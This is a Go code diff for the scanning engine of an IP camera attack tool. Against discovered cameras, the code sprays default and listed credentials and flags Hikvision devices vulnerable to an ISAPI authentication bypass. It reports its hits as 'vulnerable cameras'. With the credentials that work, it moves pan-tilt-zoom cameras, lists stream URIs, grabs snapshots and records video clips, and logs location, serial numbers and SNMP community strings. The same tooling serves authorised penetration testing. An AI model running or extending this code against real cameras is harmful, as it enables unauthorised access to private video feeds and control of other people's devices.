+func (s *Scanner) checkVulnerabilities(ctx context.Context, target, vendor, model string) {
+	if !s.checkVulns || !strings.EqualFold(vendor, "Hikvision") {
+		return
+	}
+	if _, checked := s.vulnChecked.LoadOrStore(target, true); checked {
+		return
+	}
+	if err := s.limiter.Wait(ctx); err != nil {
+		return
+	}
+
+	host, port := utils.SplitHostPort(target)
+	scheme := s.webScheme(port)
+	result, err := s.hikvision.Check(ctx, fmt.Sprintf("%s://%s", scheme, target))
+	if err != nil {
+		if s.verbose {
+			gologger.Debug().Label("VULN").Msgf("%s: %s check failed: %v", target, hikvision.CVE, err)
+		}
+		return
+	}
+	if !result.Vulnerable {
+		if s.verbose {
+			gologger.Debug().Label("VULN").Msgf("%s is not affected by %s", target, hikvision.CVE)
+		}
+		return
+	}
+
+	finding := output.Result{
+		IP:            host,
+		Port:          port,
+		Protocol:      scheme,
+		Path:          result.Path,
+		URL:           result.URL,
+		Vendor:        vendor,
+		Model:         model,
+		Vulnerability: hikvision.CVE,
+		Timestamp:     time.Now(),
+	}
+	if result.Info != nil {
+		if result.Info.Model != "" {
+			finding.Model = result.Info.Model
+		}
+		finding.Serial = result.Info.SerialNumber
+		finding.Firmware = result.Info.FirmwareVersion
+	}
+
+	if logging.JSON() {
+		slog.Warn("known vulnerability",
+			"ip", host,
+			"port", port,
+			"protocol", scheme,
+			"vulnerability", hikvision.CVE,
+			"vendor", finding.Vendor,
+			"model", finding.Model,
+			"serial", finding.Serial,
+			"firmware", finding.Firmware,
+			"path", finding.Path)
+	} else {
+		gologger.Info().Msgf("╭─ %sKnown vulnerability %s%s %s[%s]%s", config.ColorRed, hikvision.CVE, config.ColorReset, config.ColorYellow, strings.TrimSpace(finding.Vendor+" "+finding.Model), config.ColorReset)
+		gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, target)
+		gologger.Info().Msgf("%s├ Finding   :%s %s", config.ColorBold, config.ColorReset, "ISAPI authentication bypass, no credentials used")
+		if finding.Serial != "" {
+			gologger.Info().Msgf("%s├ Serial    :%s %s", config.ColorBold, config.ColorReset, finding.Serial)
+		}
+		if finding.Firmware != "" {
+			gologger.Info().Msgf("%s├ Firmware  :%s %s", config.ColorBold, config.ColorReset, finding.Firmware)
+		}
+		gologger.Info().Msgf("%s╰ URL       :%s %s", config.ColorBold, config.ColorReset, result.URL)
+		fmt.Fprintln(os.Stderr)
+	}
+
+	s.emitLive(finding)
+	s.emit(finding)
+}
+
+// describeHTTP renders an HTTP probe result as a response dump
+func describeHTTP(result httpprobe.Result) string {
+	var b strings.Builder
+	fmt.Fprintf(&b, "HTTP %d (%s auth)\n", result.StatusCode, result.Scheme)
+	for name, values := range result.Header {
+		for _, value := range values {
+			fmt.Fprintf(&b, "%s: %s\n", name, value)
+		}
+	}
+	return b.String()
+}
+
+// isHTTPPort reports whether a port usually serves a camera web interface
+func isHTTPPort(port int) bool {
+	return hasPort(config.HTTPPorts, port) || hasPort(config.HTTPSPorts, port)
+}
+
+// isWeb reports whether target is tested as a web interface: as detected
+// by --auto-detect, or else by its port
+func (s *Scanner) isWeb(target string) bool {
+	if protocol, ok := s.protocols[target]; ok {
+		return protocol.IsWeb()
+	}
+	_, port := utils.SplitHostPort(target)
+	return isHTTPPort(port)
+}
+
+// webScheme returns the scheme of the web interface on port
+func (s *Scanner) webScheme(port int) string {
+	if s.tls || hasPort(config.HTTPSPorts, port) {
+		return "https"
+	}
+	return "http"
+}
+
+// rtspScheme returns the scheme of the RTSP server on port
+func (s *Scanner) rtspScheme(port int) string {
+	if s.tls || hasPort(config.RTSPSPorts, port) {
+		return "rtsps"
+	}
+	return "rtsp"
+}
+
+// scheme returns the scheme the tests of target use
+func (s *Scanner) scheme(target string) string {
+	_, port := utils.SplitHostPort(target)
+	if s.isWeb(target) {
+		return s.webScheme(port)
+	}
+	return s.rtspScheme(port)
+}
+
+// hasPort reports whether port is in ports
+func hasPort(ports []int, port int) bool {
+	for _, p := range ports {
+		if p == port {
+			return true
+		}
+	}
+	return false
+}
+
+// hit describes a successful credential test
+type hit struct {
+	protocol string
+	path     string
+	url      string
+	response string
+	vendor   string
+	model    string
+	fuzzed   bool   // Path was found by fuzzing rather than the default list
+	frame    []byte // First frame of an MJPEG stream, saved as the snapshot
+}
+
+// credOrder holds the pairs a target's jobs still take, in the priority
+// order of its vendor
+type credOrder struct {
+	mu      sync.Mutex
+	pending []credentials.Credentials
+}
+
+// markTested records that cred is tested against target and reports
+// whether it had not been before
+func (s *Scanner) markTested(target string, cred credentials.Credentials) bool {
+	credKey := fmt.Sprintf("%s_%s_%s", target, cred.Username, cred.Password)
+	_, tested := s.testedCreds.LoadOrStore(credKey, true)
+	return !tested
+}
+
+// nextCredential picks the pair a job tests. Jobs of a host whose vendor
+// is known take the next untested pair of the vendor order instead of
+// their own, so each pair is still tested once per target and the vendor
+// defaults come first. It returns false if there is nothing left to test.
+func (s *Scanner) nextCredential(job Job) (Job, bool) {
+	order := s.credOrder(job.IP)
+	if order == nil {
+		if s.markTested(job.IP, job.Cred) {
+			return job, true
+		}
+		// The pair was taken from an order created since the lookup
+		if order = s.credOrder(job.IP); order == nil {
+			return job, false
+		}
+	}
+
+	order.mu.Lock()
+	defer order.mu.Unlock()
+	for len(order.pending) > 0 {
+		cred := order.pending[0]
+		order.pending = order.pending[1:]
+		if s.markTested(job.IP, cred) {
+			job.Cred = cred
+			return job, true
+		}
+	}
+	return job, false
+}
+
+// credOrder returns the vendor order of target, creating it once the
+// vendor of its host is known, or nil while it is not
+func (s *Scanner) credOrder(target string) *credOrder {
+	if value, ok := s.credOrders.Load(target); ok {
+		return value.(*credOrder)
+	}
+	if s.credentials == nil {
+		return nil
+	}
+	host, _ := utils.SplitHostPort(target)
+	value, ok := s.vendors.Load(host)
+	if !ok {
+		return nil
+	}
+	vendor := value.(string)
+	value, loaded := s.credOrders.LoadOrStore(target, &credOrder{
+		pending: creds.PrioritizeForVendor(s.credentials, vendor),
+	})
+	if !loaded && s.verbose {
+		gologger.Debug().Label("CREDS").Msgf("%s is %s, trying its default credentials first", target, vendor)
+	}
+	return value.(*credOrder)
+}
+
+// setVendor records the vendor of target's host if default credentials
+// are known for it
+func (s *Scanner) setVendor(target, vendor string) {
+	if s.credentials == nil || len(creds.VendorDefaults(vendor)) == 0 {
+		return
+	}
+	host, _ := utils.SplitHostPort(target)
+	s.vendors.LoadOrStore(host, vendor)
+}
+
+// snmpLookup is the SNMP query of one host
+type snmpLookup struct {
+	once sync.Once
+	info snmp.Info
+	ok   bool
+}
+
+// identifySNMP queries the SNMP agent of target's host once and prints
+// what it reveals. Other jobs of the host wait for the answer.
+func (s *Scanner) identifySNMP(ctx context.Context, target string) {
+	if s.snmp == nil {
+		return
+	}
+	host, _ := utils.SplitHostPort(target)
+	value, _ := s.snmpHosts.LoadOrStore(host, &snmpLookup{})
+	lookup := value.(*snmpLookup)
+	lookup.once.Do(func() {
+		if err := s.limiter.Wait(ctx); err != nil {
+			return
+		}
+		lookup.info, lookup.ok = s.snmp.Probe(ctx, host)
+		if !lookup.ok {
+			return
+		}
+		info := lookup.info
+		s.setVendor(host, info.Vendor)
+		if logging.JSON() {
+			slog.Info("snmp agent",
+				"ip", host,
+				"version", info.Version,
+				"community", info.Community,
+				"sys_descr", info.SysDescr,
+				"vendor", info.Vendor,
+				"model", info.Model,
+				"firmware", info.Firmware)
+			return
+		}
+		device := strings.TrimSpace(info.Vendor + " " + info.Model)
+		if device == "" {
+			device = info.SysDescr
+		}
+		gologger.Info().Label("SNMP").Msgf("%s answers %s community %q: %s", host, info.Version, info.Community, device)
+	})
+}
+
+// snmpInfo returns what the SNMP agent of target's host revealed, if it
+// has been queried and answered
+func (s *Scanner) snmpInfo(target string) (snmp.Info, bool) {
+	host, _ := utils.SplitHostPort(target)
+	value, ok := s.snmpHosts.Load(host)
+	if !ok {
+		return snmp.Info{}, false
+	}
+	lookup := value.(*snmpLookup)
+	lookup.once.Do(func() {})
+	return lookup.info, lookup.ok
+}
+
+// certLookup is the certificate read of one target; done is closed once
+// it has finished
+type certLookup struct {
+	done chan struct{}
+	cert tlscert.Certificate
+	ok   bool
+}
+
+// inspectTLS reads the certificate of a TLS target once, in the background
+// so the handshake runs alongside the credential tests. Certificates are
+// reported whether or not any credentials work; expired ones become a
+// finding of their own.
+func (s *Scanner) inspectTLS(ctx context.Context, target string) {
+	if s.tlscert == nil {
+		return
+	}
+	scheme := s.scheme(target)
+	if scheme != "https" && scheme != "rtsps" {
+		return
+	}
+	lookup := &certLookup{done: make(chan struct{})}
+	if _, loaded := s.certs.LoadOrStore(target, lookup); loaded {
+		return
+	}
+
+	s.inspections.Add(1)
+	go func() {
+		defer s.inspections.Done()
+		defer close(lookup.done)
+		if err := s.limiter.Wait(ctx); err != nil {
+			return
+		}
+		cert, err := s.tlscert.Inspect(ctx, target)
+		if err != nil {
 			if s.verbose {
-				gologger.Info().Label("VALID").Msgf("Found credentials for %s [%s:%s]",
-					job.IP, job.Cred.Username, job.Cred.Password)
+				gologger.Debug().Label("TLS").Msgf("%s: %v", target, err)
 			}
+			return
+		}
+		lookup.cert, lookup.ok = cert, true
+		s.reportCertificate(target, scheme, cert)
+	}()
+}
 
-			// Try all paths to find working ones
-			foundValidPath := false
-			for _, path := range config.DefaultPaths {
-				if path == "/" {
-					continue // Skip root path as we already tested it
-				}
+// certificate waits for the certificate read of target and returns it, if
+// one was started and succeeded
+func (s *Scanner) certificate(ctx context.Context, target string) (tlscert.Certificate, bool) {
+	value, ok := s.certs.Load(target)
+	if !ok {
+		return tlscert.Certificate{}, false
+	}
+	lookup := value.(*certLookup)
+	select {
+	case <-lookup.done:
+	case <-ctx.Done():
+		return tlscert.Certificate{}, false
+	}
+	return lookup.cert, lookup.ok
+}
 
-				processedPath := credentials.ReplaceCreds(path, job.Cred.Username, job.Cred.Password)
-				pathKey := fmt.Sprintf("%s:%s", job.IP, processedPath)
+// reportCertificate logs a certificate and emits a finding if it expired
+func (s *Scanner) reportCertificate(target, scheme string, cert tlscert.Certificate) {
+	host, port := utils.SplitHostPort(target)
+	expired := cert.Expired(time.Now())
+	if logging.JSON() {
+		slog.Info("tls certificate",
+			"ip", host,
+			"port", port,
+			"subject", cert.Subject,
+			"issuer", cert.Issuer,
+			"sans", cert.SANs,
+			"serial", cert.Serial,
+			"not_after", cert.NotAfter.Format(time.RFC3339),
+			"self_signed", cert.SelfSigned,
+			"expired", expired,
+			"mac", cert.MAC)
+	} else {
+		gologger.Info().Label("TLS").Msgf("%s: %s", target, describeCertificate(cert))
+	}
+	if !expired {
+		return
+	}
 
-				if _, exists := s.foundPaths.Load(pathKey); exists {
-					continue
-				}
+	finding := output.Result{
+		IP:            host,
+		Port:          port,
+		Protocol:      scheme,
+		URL:           fmt.Sprintf("%s://%s", scheme, target),
+		Vulnerability: tlscert.FindingExpired,
+		Timestamp:     time.Now(),
+	}
+	applyCertificate(&finding, cert)
+	if logging.JSON() {
+		slog.Warn("expired certificate",
+			"ip", host,
+			"port", port,
+			"protocol", scheme,
+			"subject", cert.Subject,
+			"not_after", finding.TLSNotAfter)
+	} else {
+		gologger.Info().Msgf("╭─ %sExpired TLS certificate%s", config.ColorRed, config.ColorReset)
+		gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, target)
+		gologger.Info().Msgf("%s├ Subject   :%s %s", config.ColorBold, config.ColorReset, cert.Subject)
+		gologger.Info().Msgf("%s╰ Expired   :%s %s", config.ColorBold, config.ColorReset, finding.TLSNotAfter)
+		fmt.Fprintln(os.Stderr)
+	}
+	s.emitLive(finding)
+	s.emit(finding)
+}
 
-				pathURL := fmt.Sprintf("rtsp://%s:%s@%s%s",
-					job.Cred.Username,
-					job.Cred.Password,
-					job.IP,
-					processedPath)
+// applyCertificate copies the certificate fields into a result
+func applyCertificate(result *output.Result, cert tlscert.Certificate) {
+	result.TLSSubject = cert.Subject
+	result.TLSIssuer = cert.Issuer
+	result.TLSSANs = cert.SANs
+	result.TLSSerial = cert.Serial
+	result.TLSNotAfter = cert.NotAfter.Format(time.RFC3339)
+	result.TLSSelfSigned = cert.SelfSigned
+	if result.MAC == "" {
+		result.MAC = cert.MAC
+	}
+}
 
-				if s.verbose {
-					gologger.Debug().Label("PATH").Msgf("Trying %s on %s", processedPath, job.IP)
-				}
+// describeCertificate summarizes a certificate for the console
+func describeCertificate(cert tlscert.Certificate) string {
+	description := cert.Subject
+	if description == "" {
+		description = "no subject"
+	}
+	if cert.SelfSigned {
+		description += ", self-signed"
+	} else {
+		description += ", issued by " + cert.Issuer
+	}
+	if cert.Expired(time.Now()) {
+		description += ", expired " + cert.NotAfter.Format("2006-01-02")
+	} else {
+		description += ", expires " + cert.NotAfter.Format("2006-01-02")
+	}
+	if len(cert.SANs) > 0 {
+		description += ", SAN " + strings.Join(cert.SANs, " ")
+	}
+	if cert.MAC != "" {
+		description += ", MAC " + cert.MAC
+	}
+	return description
+}
 
-				pathSuccess, pathResponse := rtsp.TestCredentials(pathURL, s.timeout, s.verbose)
-				if pathSuccess {
-					if s.targetLimit > 0 && atomic.LoadInt32(&s.found) >= s.targetLimit {
-						return
-					}
-					fingerprint := rtsp.GetFingerprint(pathResponse, pathURL)
-					s.foundPaths.Store(pathKey, true)
-					// Only increment and report if this IP hasn't been found before
-					if s.incrementFound(job.IP) {
-						result := fmt.Sprintf("rtsp://%s:%s@%s%s",
-							job.Cred.Username,
-							job.Cred.Password,
-							job.IP,
-							processedPath)
-						geoLocation := utils.GetGeoLocation(job.IP)
-						gologger.Info().Msgf("╭─ %sFound vulnerable camera%s %s[%s]%s", config.ColorGreen, config.ColorReset, config.ColorYellow, fingerprint, config.ColorReset)
-						gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, job.IP)
-						gologger.Info().Msgf("%s├ Geo       :%s %s", config.ColorBold, config.ColorReset, geoLocation)
-						gologger.Info().Msgf("%s├ Auth      :%s %s:%s", config.ColorBold, config.ColorReset, job.Cred.Username, job.Cred.Password)
-						gologger.Info().Msgf("%s├ Path      :%s %s", config.ColorBold, config.ColorReset, processedPath)
-						gologger.Info().Msgf("%s╰ URL       :%s %s", config.ColorBold, config.ColorReset, result)
-						fmt.Println()
-						if s.verbose {
-							gologger.Info().Label("RESP").Msgf("\n%s", pathResponse)
-						}
-						utils.WriteResult(result, s.outFile)
-
-						// Take screenshot if media directory is specified
-						if s.mediaDir != "" {
-							if err := media.TakeScreenshot(result, s.mediaDir, s.timeout); err != nil {
-								if s.verbose {
-									gologger.Warning().Msgf("Failed to take screenshot: %v", err)
-								}
-							} else if s.verbose {
-								gologger.Info().Msgf("Screenshot saved to %s", s.mediaDir)
-							}
-						}
-					}
-					foundValidPath = true
-				} else if s.verbose && strings.Contains(pathResponse, "404") {
-					gologger.Debug().Label("PATH").Msgf("Valid path format but no stream: %s", processedPath)
+// ptzLookup is the PTZ check of one host
+type ptzLookup struct {
+	once   sync.Once
+	result ptz.Result
+	ok     bool
+}
+
+// probePTZ checks the web interface of a hit for pan-tilt-zoom control
+// with the hit's credentials, once per host. RTSP hits are checked on port
+// 80 (443 with TLS). It returns false if PTZ checks are disabled or the
+// camera cannot be steered.
+func (s *Scanner) probePTZ(ctx context.Context, job Job, protocol string) (ptz.Result, bool) {
+	if !s.checkPTZ {
+		return ptz.Result{}, false
+	}
+	host, port := utils.SplitHostPort(job.IP)
+	value, _ := s.ptzHosts.LoadOrStore(host, &ptzLookup{})
+	lookup := value.(*ptzLookup)
+	lookup.once.Do(func() {
+		if !strings.HasPrefix(protocol, "http") {
+			port = 80
+			if s.tls {
+				port = 443
+			}
+		}
+		if err := s.limiter.Wait(ctx); err != nil {
+			return
+		}
+		target := utils.FormatTarget(host, port)
+		baseURL := fmt.Sprintf("%s://%s", s.webScheme(port), target)
+		result, err := s.ptz.Check(ctx, baseURL, job.Cred.Username, job.Cred.Password)
+		if err != nil {
+			if s.verbose {
+				gologger.Debug().Label("PTZ").Msgf("%s: %v", target, err)
+			}
+			return
+		}
+		if !result.Supported {
+			if s.verbose {
+				gologger.Debug().Label("PTZ").Msgf("%s has no PTZ control", target)
+			}
+			return
+		}
+		if result.MoveError != "" {
+			gologger.Warning().Msgf("PTZ test move on %s failed: %s", target, result.MoveError)
+		}
+		lookup.result, lookup.ok = result, true
+	})
+	return lookup.result, lookup.ok
+}
+
+// probePelco looks for Pelco-D and Pelco-P cameras behind the serial
+// device server at target, once per target, and reports one result per
+// protocol that answered
+func (s *Scanner) probePelco(ctx context.Context, target string) {
+	if _, probed := s.pelcoTargets.LoadOrStore(target, true); probed {
+		return
+	}
+	if err := s.limiter.Wait(ctx); err != nil {
+		return
+	}
+	host, port := utils.SplitHostPort(target)
+	result, err := s.pelco.Probe(ctx, host)
+	if err != nil && !result.Found() {
+		if s.verbose {
+			gologger.Debug().Label("PELCO").Msgf("%s: %v", target, err)
+		}
+		return
+	}
+	if !result.Found() {
+		if s.verbose {
+			gologger.Debug().Label("PELCO").Msgf("No Pelco camera answered on %s", target)
+		}
+		return
+	}
+	s.MarkFound(target)
+
+	for _, protocol := range result.Protocols() {
+		finding := output.Result{
+			IP:             host,
+			Port:           port,
+			Protocol:       protocol,
+			URL:            fmt.Sprintf("%s://%s", protocol, target),
+			PelcoAddresses: result.Addresses(protocol),
+			Timestamp:      time.Now(),
+		}
+		if logging.JSON() {
+			slog.Info("pelco bus found",
+				"ip", host,
+				"port", port,
+				"protocol", protocol,
+				"addresses", finding.PelcoAddresses)
+		} else {
+			gologger.Info().Msgf("╭─ %sFound %s bus%s %s[no authentication]%s", config.ColorGreen, "Pelco-"+strings.ToUpper(strings.TrimPrefix(protocol, "pelco-")), config.ColorReset, config.ColorYellow, config.ColorReset)
+			gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, target)
+			gologger.Info().Msgf("%s╰ Addresses :%s %s", config.ColorBold, config.ColorReset, finding.PelcoAddresses)
+			fmt.Fprintln(os.Stderr)
+		}
+		s.emitLive(finding)
+		s.emit(finding)
+	}
+}
+
+// streamLookup is the ONVIF stream listing and device information of one
+// host
+type streamLookup struct {
+	once    sync.Once
+	streams []output.StreamInfo
+	device  onvif.DeviceInformation
+}
+
+// enumerateStreams lists the stream URIs of every media profile of a hit
+// over ONVIF with the hit's credentials, once per host, and reads the
+// device information with them. Like PTZ checks, RTSP hits are asked on
+// port 80 (443 with TLS). The streams are nil if enumeration is disabled
+// or the device listed none.
+func (s *Scanner) enumerateStreams(ctx context.Context, job Job, protocol string) ([]output.StreamInfo, onvif.DeviceInformation) {
+	if s.onvif == nil {
+		return nil, onvif.DeviceInformation{}
+	}
+	host, port := utils.SplitHostPort(job.IP)
+	value, _ := s.onvifHosts.LoadOrStore(host, &streamLookup{})
+	lookup := value.(*streamLookup)
+	lookup.once.Do(func() {
+		if !strings.HasPrefix(protocol, "http") {
+			port = 80
+			if s.tls {
+				port = 443
+			}
+		}
+		if err := s.limiter.Wait(ctx); err != nil {
+			return
+		}
+		target := utils.FormatTarget(host, port)
+		baseURL := fmt.Sprintf("%s://%s", s.webScheme(port), target)
+		// The serial number identifies the camera across its ports
+		if device, err := s.onvif.GetDeviceInformation(ctx, baseURL, job.Cred.Username, job.Cred.Password); err == nil {
+			lookup.device = device
+		} else if s.verbose {
+			gologger.Debug().Label("ONVIF").Msgf("%s: %v", target, err)
+		}
+		streams, err := s.onvif.Streams(ctx, baseURL, job.Cred.Username, job.Cred.Password)
+		if err != nil {
+			if s.verbose {
+				gologger.Debug().Label("ONVIF").Msgf("%s: %v", target, err)
+			}
+			return
+		}
+		for _, stream := range streams {
+			streamType := "unicast"
+			if stream.Type == onvif.StreamMulticast {
+				streamType = "multicast"
+			}
+			lookup.streams = append(lookup.streams, output.StreamInfo{
+				Profile:   stream.Profile.Token,
+				Name:      stream.Profile.Name,
+				Type:      streamType,
+				URI:       stream.URI,
+				Encoding:  stream.Profile.Encoding,
+				Width:     stream.Width,
+				Height:    stream.Height,
+				FrameRate: stream.FrameRate,
+			})
+		}
+	})
+	return lookup.streams, lookup.device
+}
+
+// describeStreams summarizes the ONVIF streams of a result for the console
+func describeStreams(streams []output.StreamInfo) string {
+	profiles := make(map[string]bool)
+	for _, stream := range streams {
+		profiles[stream.Profile] = true
+	}
+	return fmt.Sprintf("%d ONVIF stream URIs in %d profiles", len(streams), len(profiles))
+}
+
+// describeStream describes one ONVIF stream for the console
+func describeStream(stream output.StreamInfo) string {
+	var details []string
+	for _, detail := range []string{stream.Name, stream.Type, stream.Encoding} {
+		if detail != "" {
+			details = append(details, detail)
+		}
+	}
+	if stream.Width > 0 && stream.Height > 0 {
+		details = append(details, fmt.Sprintf("%dx%d", stream.Width, stream.Height))
+	}
+	if stream.FrameRate > 0 {
+		details = append(details, fmt.Sprintf("%gfps", stream.FrameRate))
+	}
+	return fmt.Sprintf("%s (%s)", stream.URI, strings.Join(details, ", "))
+}
+
+// describePTZ summarizes the PTZ fields of a result for the console
+func describePTZ(result output.Result) string {
+	description := fmt.Sprintf("%s, %d presets", strings.ToUpper(result.PTZ), result.PTZPresets)
+	if result.PTZMoved {
+		description += ", control confirmed by a test move"
+	}
+	return description
+}
+
+// reportHit prints a discovered camera, hands it to the result writer and
+// takes a screenshot if requested
+func (s *Scanner) reportHit(ctx context.Context, job Job, h hit) {
+	protocol, path, streamURL, response := h.protocol, h.path, h.url, h.response
+	fingerprint := rtsp.GetFingerprint(response, streamURL)
+	var location geoip.Location
+	if s.geo != nil {
+		location = s.geo.Lookup(ctx, job.IP)
+	}
+
+	host, port := utils.SplitHostPort(job.IP)
+	result := output.Result{
+		IP:        host,
+		Port:      port,
+		Protocol:  protocol,
+		Username:  job.Cred.Username,
+		Password:  job.Cred.Password,
+		Path:      path,
+		URL:       streamURL,
+		Vendor:    h.vendor,
+		Model:     h.model,
+		Fuzzed:    h.fuzzed,
+		Timestamp: time.Now(),
+		Response:  response,
+		Country:   location.Country,
+		City:      location.City,
+		ASN:       location.ASN,
+		Org:       location.Org,
+	}
+	if fingerprint != "unknown" {
+		result.Fingerprint = fingerprint
+	}
+
+	// Fill in what the probes did not tell from the SNMP agent
+	if info, ok := s.snmpInfo(job.IP); ok {
+		result.SNMP = info.Version + " " + info.Community
+		result.SysDescr = info.SysDescr
+		if result.Vendor == "" {
+			result.Vendor = info.Vendor
+		}
+		if result.Model == "" {
+			result.Model = info.Model
+		}
+		if result.Firmware == "" {
+			result.Firmware = info.Firmware
+		}
+		if result.Serial == "" {
+			result.Serial = info.Serial
+		}
+	}
+
+	cert, hasCert := s.certificate(ctx, job.IP)
+	if hasCert {
+		applyCertificate(&result, cert)
+	}
+
+	if control, ok := s.probePTZ(ctx, job, protocol); ok {
+		result.PTZ = control.Protocol
+		result.PTZPresets = control.Presets
+		result.PTZMoved = control.Moved
+	}
+	streams, device := s.enumerateStreams(ctx, job, protocol)
+	result.Streams = streams
+	if result.Vendor == "" {
+		result.Vendor = device.Manufacturer
+	}
+	if result.Model == "" {
+		result.Model = device.Model
+	}
+	if result.Firmware == "" {
+		result.Firmware = device.FirmwareVersion
+	}
+	if result.Serial == "" {
+		result.Serial = device.SerialNumber
+	}
+
+	if logging.JSON() {
+		slog.Info("camera found",
+			"ip", host,
+			"port", port,
+			"protocol", protocol,
+			"username", job.Cred.Username,
+			"path", path,
+			"vendor", result.Vendor,
+			"model", result.Model,
+			"fingerprint", result.Fingerprint,
+			"geo", location.String(),
+			"fuzzed", h.fuzzed,
+			"ptz", result.PTZ,
+			"streams", len(result.Streams))
+	} else {
+		gologger.Info().Msgf("╭─ %sFound vulnerable camera%s %s[%s]%s", config.ColorGreen, config.ColorReset, config.ColorYellow, fingerprint, config.ColorReset)
+		gologger.Info().Msgf("%s├ Host      :%s %s", config.ColorBold, config.ColorReset, job.IP)
+		if result.Vendor != "" {
+			gologger.Info().Msgf("%s├ Device    :%s %s", config.ColorBold, config.ColorReset, strings.TrimSpace(result.Vendor+" "+result.Model))
+		}
+		if result.SNMP != "" {
+			gologger.Info().Msgf("%s├ SNMP      :%s %s", config.ColorBold, config.ColorReset, result.SNMP)
+		}
+		if result.PTZ != "" {
+			gologger.Info().Msgf("%s├ PTZ       :%s %s", config.ColorBold, config.ColorReset, describePTZ(result))
+		}
+		if len(result.Streams) > 0 {
+			gologger.Info().Msgf("%s├ Streams   :%s %s", config.ColorBold, config.ColorReset, describeStreams(result.Streams))
+			if s.verbose {
+				for _, stream := range result.Streams {
+					gologger.Info().Msgf("%s│%s   %s", config.ColorBold, config.ColorReset, describeStream(stream))
 				}
 			}
+		}
+		if hasCert {
+			gologger.Info().Msgf("%s├ TLS       :%s %s", config.ColorBold, config.ColorReset, describeCertificate(cert))
+		}
+		gologger.Info().Msgf("%s├ Geo       :%s %s", config.ColorBold, config.ColorReset, location)
+		gologger.Info().Msgf("%s├ Auth      :%s %s:%s", config.ColorBold, config.ColorReset, job.Cred.Username, job.Cred.Password)
+		if path == "/" {
+			gologger.Info().Msgf("%s├ Path      :%s %s", config.ColorBold, config.ColorReset, "Accepts any path")
+		} else {
+			gologger.Info().Msgf("%s├ Path      :%s %s", config.ColorBold, config.ColorReset, path)
+		}
+		gologger.Info().Msgf("%s╰ URL       :%s %s", config.ColorBold, config.ColorReset, streamURL)
+		fmt.Fprintln(os.Stderr)
+		if s.verbose {
+			gologger.Info().Label("RESP").Msgf("\n%s", response)
+		}
+	}
+
+	// MJPEG streams already delivered their first frame
+	if s.mediaDir != "" && h.frame != nil {
+		path, err := media.SaveFrame(s.mediaDir, streamURL, h.frame)
+		if err != nil {
+			if s.verbose {
+				gologger.Warning().Msgf("Failed to save MJPEG frame of %s: %v", job.IP, err)
+			}
+		} else {
+			result.Snapshot = path
+			if s.verbose {
+				gologger.Info().Msgf("Screenshot saved to %s", path)
+			}
+		}
+	}
+
+	s.emitLive(result)
+	s.recordClip(job.IP, protocol, streamURL)
 
-			if !foundValidPath && s.verbose {
-				if _, warned := s.warnedIPs.LoadOrStore(job.IP, true); !warned {
-					gologger.Warning().Msgf("%sValid credentials for %s but no working stream path%s", config.ColorYellow, job.IP, config.ColorReset)
+	// Take screenshot if media directory is specified. The capture runs in
+	// the background and the result is written once it has finished.
+	if s.mediaDir != "" && !s.noFFmpeg && strings.HasPrefix(protocol, "rtsp") {
+		s.snapshots.Add(1)
+		go func() {
+			defer s.snapshots.Done()
+			path, err := media.TakeScreenshot(context.Background(), streamURL, s.mediaDir, s.snapshotTimeout)
+			if err != nil {
+				if s.verbose {
+					gologger.Warning().Msgf("Failed to take screenshot of %s: %v", job.IP, err)
+				}
+			} else {
+				result.Snapshot = path
+				if s.verbose {
+					gologger.Info().Msgf("Screenshot saved to %s", path)
 				}
 			}
-		} else if s.verbose {
-			gologger.Debug().Label("FAIL").Msgf("%s: %s", job.IP, response)
+			s.emit(result)
+		}()
+		return
+	}
+
+	s.emit(result)
+}
+
+// recordClip records a clip of an RTSP hit in the background, at most
+// recordWorkers at a time. Without ffmpeg the H.264 video is saved raw.
+func (s *Scanner) recordClip(target, protocol, streamURL string) {
+	if s.recordDuration <= 0 || !strings.HasPrefix(protocol, "rtsp") {
+		return
+	}
+	s.recordings.Add(1)
+	go func() {
+		defer s.recordings.Done()
+		s.recordSlots <- struct{}{}
+		defer func() { <-s.recordSlots }()
+
+		var path string
+		var err error
+		if s.noFFmpeg {
+			path, err = media.RecordRaw(context.Background(), streamURL, s.recordDir, s.recordDuration, rtsp.Config{
+				Timeouts:  s.timeouts,
+				Dialer:    s.dialer,
+				Transport: s.rtspTransport,
+				TLSConfig: s.tlsConfig,
+			})
+		} else {
+			path, err = media.RecordClip(context.Background(), streamURL, s.recordDir, s.recordDuration)
 		}
+		if err != nil {
+			gologger.Warning().Msgf("Failed to record clip of %s: %v", target, err)
+			return
+		}
+		gologger.Info().Label("CLIP").Msgf("%s recorded to %s", target, path)
+	}()
+}
+
+// emit hands a finished result to the result writer
+func (s *Scanner) emit(result output.Result) {
+	if err := s.writer.Write(result); err != nil {
+		gologger.Warning().Msgf("Failed to write result: %v", err)
+	}
+}
+
+// emitLive hands a result to the live writer without waiting for its
+// snapshot
+func (s *Scanner) emitLive(result output.Result) {
+	if s.live == nil {
+		return
+	}
+	if err := s.live.Write(result); err != nil {
+		gologger.Warning().Msgf("Failed to write live result: %v", err)
 	}
 }
 
+// login waits until --spray allows the next login attempt against target's
+// host. Every request that carries a pair counts as one attempt: the root
+// and dummy path DESCRIBE of RTSP, each of the Digest and Basic retries of
+// HTTP, and the Dahua RPC2, Axis VAPIX and MJPEG logins. It returns false
+// once the host has used up its attempts or ctx ends.
+func (s *Scanner) login(ctx context.Context, target string) bool {
+	allowed, err := s.spray.Acquire(ctx, target)
+	if !allowed && err == nil && s.verbose {
+		host, _ := utils.SplitHostPort(target)
+		gologger.Debug().Label("SPRAY").Msgf("%s reached its login attempts, skipping the remaining pairs", host)
+	}
+	return allowed
+}
+
+// httpLogin paces the authenticated requests of the HTTP prober
+func (s *Scanner) httpLogin(ctx context.Context, rawURL string) error {
+	u, err := url.Parse(rawURL)
+	if err != nil {
+		return err
+	}
+	if !s.login(ctx, u.Host) {
+		if ctx.Err() != nil {
+			return ctx.Err()
+		}
+		return errLoginLimit
+	}
+	return nil
+}
+
+// Wait blocks until all background certificate reads, snapshots and clip
+// recordings have finished
+func (s *Scanner) Wait() {
+	s.inspections.Wait()
+	s.snapshots.Wait()
+	s.recordings.Wait()
+}
+
 // incrementFound atomically increments the found counter
 func (s *Scanner) incrementFound(ip string) bool {
 	if _, exists := s.successMap.LoadOrStore(ip, true); !exists {
@@ -218,6 +1713,17 @@ func (s *Scanner) incrementFound(ip string) bool {
 	return false
 }
 
